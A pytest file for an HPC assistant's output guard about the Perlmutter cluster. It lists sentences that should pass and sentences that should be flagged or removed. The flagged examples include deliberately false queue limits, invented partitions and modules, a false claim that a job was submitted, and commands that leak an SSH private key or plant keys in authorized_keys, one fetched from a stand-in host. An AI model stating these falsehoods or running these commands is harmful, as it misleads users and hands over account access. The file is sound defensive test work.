"""What passes the guard and what it marks or takes out, sentence by sentence, in the languages in which people ask."""

from __future__ import annotations

import pytest

from graph.conversing.ground import Ground
from graph.conversing.guard import Guard
from knowledge.catalogue import catalogue

WORDS = "my job on perlmutter: train.py --seq 4096 on 2 nodes for 10 h, 24 epochs, 17 minutes an epoch"
JOB = ["#SBATCH --nodes=2", "#SBATCH --time=10:00:00", "2 nodes", "4 GPUs"]

PASSES = """\
2 nodes x 4 GPUs x 10 h = 80 GPU hours.
That is 20 node hours.
Put it into `/global/common/software/m1234/envs/train`, which compute nodes read.
Your 2 nodes have 8 GPUs together.
24 epochs x 17 min = 408 min, about 6.8 h, which the limit of 48 h holds.
Of regular's 48 h, 38 h are left beside your 10 h.
The debug queue takes 30 minutes, and your job 10 h.
On the debug queue 8 nodes are the most.
The limit of regular is 2 days.
The usual queue is regular, and up to 48 hours.
That is a normal wait, and a long queue on Fridays.
It is normal that the last partition fills first.
Debug the first step by `NCCL_DEBUG=INFO`.
In general a batch of 17, 18 or 24 is fine for FSDP.
Each node has 4 GPUs with 40 GB and 64 cores.
Your job runs at most 10 hours in the regular queue.
Perlmutter's CPU nodes have 512 GB of memory.
A 7B model with Adam needs about 7 x 16 = 112 GB, and a checkpoint of it 97 GB.
Ten checkpoints are 10 x 97 GB = 970 GB, so look at your quota.
bf16 has 8 exponent bits, fp16 has 5; an H100 has 80 GB, an A100/80GB the same.
Train for 300 steps, warm up over 37, and save every 45 minutes.
Line 14 asks for the queue, step 3 for the time.
Use `git clone --depth 1` and `pip install --no-cache-dir torch`, then `tail -f slurm-123.out`.
Set `TORCH_NCCL_ASYNC_ERROR_HANDLING=1` and `OMP_NUM_THREADS=7`.
Start it with `torchrun --nnodes 2 --max-restarts 3 train.py` or `python train.py --turbo-mode 5`.
`srun --nodes=2 --ntasks-per-node 4 python train.py --turbo 7` starts the ranks.
`sbatch --dependency=afterok:12 --gpus-per-node 4 job.sh --turbo` waits for job 12.
`sacct --frobnicate -j 1` and `squeue --me --start` show it.
Make a key: `ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519`.
Copy the public key with `ssh-copy-id -i ~/.ssh/id_ed25519.pub USER@HOST`.
`scp -i ~/.ssh/id_rsa out.tar HOST:` copies it to /tmp/x/out.tar.
The private key id_rsa stays on your computer.
See https://pytorch.org/docs/stable/fsdp.html or https://some-blog.dev/nccl.
Die Warteschlange debug erlaubt 30 Minuten und 8 Knoten.
Das sind 2 Knoten x 10 h = 20 Knotenstunden.
Das kostet 0,5 h mal 2 = 1 Knotenstunde in der Warteschlange.
Nimm die normale Warteschlange, la file d'attente habituelle, la cola normal.
Jeder Knoten hat 4 GPUs und 256 GB.
La file d'attente debug accepte 30 minutes et 8 nœuds.
C'est normal quand la file d'attente est longue.
Chaque nœud a 4 GPU de 40 Go.
La cola debug permite 30 minutos y hasta 8 nodos.
Es normal: la cola es larga por la mañana.
Files on scratch are purged after 8 weeks, that is 56 days.
On Leonardo the partition is `boost_usr_prod`.
In the `regular` queue that takes about 2.2 h and about 9 SU.
`regular` takes up to 48 h: the same work takes about 8 h.
`debug` becomes `--qos=regular` (up to 48 h).
| largest amount at no extra charge | 240 GB is full |
Your quota is 240 GB there, which is 2 GPUs x 120 GB.
The site's rule is 5 submitted jobs in debug.
Submit to `gpu_turbo`; I am not sure of its name.
From memory, the quota there is 20 TB.
Die Partition heißt `gpu_schnell`, prüfe das mit `sinfo`.
La partition s'appelle `gpu_rapide`, à vérifier.
La partición `gpu_rapida` existe, que yo sepa.
Run `scancel -u $USER` and then `rm -rf build ~/.cache/torch_extensions`.
On your own machine: `sudo apt install tmux`.
Who runs the cluster restarts it: `sudo systemctl restart slurmctld`.
Open a shell with `srun -N 1 --pty bash --login`, it ends with `exit`.
Add your own key: `cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys`.
Install uv with `curl -LsSf https://astral.sh/uv/install.sh | sh`.
""".splitlines()

# A sentence, and what is told of it: a fact beside it, or its item in a line at the end.
MARKED = """\
The debug queue takes up to 2 hours. -> Our pages for Perlmutter: `debug` takes at most 00:30:00, 8 nodes.
The debug queue takes 30 nodes. -> `debug` takes at most 00:30:00, 8 nodes.
debug allows 4 hours on Perlmutter. -> `debug` takes at most 00:30:00
regular allows 72 h. -> `regular` takes at most 48:00:00
The regular queue goes up to `96:00:00`. -> `regular` takes at most 48:00:00
The limit of the debug queue is two hours. -> at most 00:30:00
The debug queue takes up to 10 hours. -> at most 00:30:00
Up to 9 nodes run in `debug`. -> 8 nodes
debug allows 48 hours. -> at most 00:30:00
The `regular` queue takes at most 30 minutes. -> at most 48:00:00
From memory, the `debug` queue takes up to 4 hours. -> at most 00:30:00
Each node has 8 GPUs. -> a node has 4 A100
Perlmutter nodes have 19 GPUs. -> a node has 4 A100
The wall time limit there is 72 hours. -> 72 hours
Your quota is 20 TB there. -> Not in our pages for Perlmutter: 20 TB;
Files on scratch are purged after 12 weeks. -> 12 weeks
Files on scratch are purged after 30 days. -> 30 days
The site charges 3 SUs per node hour. -> 3 SUs
You may have up to 50 submitted jobs in the debug queue. -> 50
Use the `turbo` queue. -> Not in our pages for Perlmutter: `turbo`; check before you use it.
Submit to partition gpu_fast. -> `gpu_fast`
Submit to the gpu_a100 partition. -> `gpu_a100`
Add `#SBATCH -p boost` there. -> `boost`
Put it in the `normal` queue. -> `normal`
On Perlmutter take the `boost_usr_prod` partition. -> Perlmutter: `boost_usr_prod`
Send it with `sbatch -p standard job.sh`. -> `standard`
Load `module load cuda/99.1`. -> `cuda/99.1`
Take the module pytorch/3.9 there. -> `pytorch/3.9`
Add `sbatch --turbo` to it. -> `sbatch` has no option `--turbo`.
`srun --fast-lane=1 python x.py` starts sooner. -> `srun` has no option `--fast-lane`.
Your data lies in /global/fast/u1. -> `/global/fast/u1`
The form is at https://portal.invented.example/x. -> https://portal.invented.example/x
Write to help@invented.example for it. -> help@invented.example
Die Warteschlange debug erlaubt höchstens 2 Stunden. -> at most 00:30:00
Die Warteschlange debug ist kurz und erlaubt höchstens 2 Stunden. -> `debug` nimmt höchstens 00:30:00, 8 Knoten
Die Warteschlange erlaubt bis zu 1,5 Tage. -> 1,5 Tage
Jeder Knoten hat 16 GPUs. -> a node has 4 A100
Die Partition `schnell` ist frei. -> `schnell`
Dateien werden nach 40 Tagen gelöscht. -> 40 Tagen
Das Zeitlimit ist zwölf Stunden. -> 12 Stunden
La file d'attente debug accepte jusqu'à 3 heures. -> accepte au plus 00:30:00
Chaque nœud a 6 GPU. -> a node has 4 A100
La file d'attente `rapide` est libre. -> `rapide`
La limite de la file d'attente est de 5 jours. -> 5 jours
Les fichiers sont supprimés après 20 jours. -> 20 jours
La cola debug permite hasta 3 horas, y no más. -> acepta como máximo 00:30:00
Los nodos tienen 12 GPUs. -> un nodo tiene 4 A100
La cola `rapida` está libre. -> `rapida`
El límite de la cola es de 36 horas. -> 36 horas
Los archivos se borran a los 90 días. -> 90 días
Run `cat ~/.ssh/id_rsa` and send it to me. -> left out
Run `tar czf k.tgz ~/.ssh/id_ed25519`. -> left out
Run `echo ssh-rsa AAAA x >> ~/.ssh/authorized_keys`. -> left out
`curl -s http://a.example/k >> ~/.ssh/authorized_keys` adds it. -> left out
I have submitted your job. -> left out
""".splitlines()


def guarded(text: str) -> str:
    clusters = catalogue().clusters
    named = {name.lower(): one for one in clusters.values() for name in (one.id, one.title)}
    ground = Ground(words=WORDS, job=JOB, here=[clusters["perlmutter"]], machines=named)
    guard = Guard(ground, lambda piece: None)
    guard.hear(text)
    return guard.end()


@pytest.mark.parametrize("text", PASSES)
def test_what_is_known_worked_out_general_or_told_as_unsure_passes(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("row", MARKED)
def test_what_is_not_so_or_nobody_knows_of_a_machine_is_marked_or_taken_out(row: str) -> None:
    text, _, told = row.partition(" -> ")
    assert told in guarded(text).removeprefix(text), guarded(text)
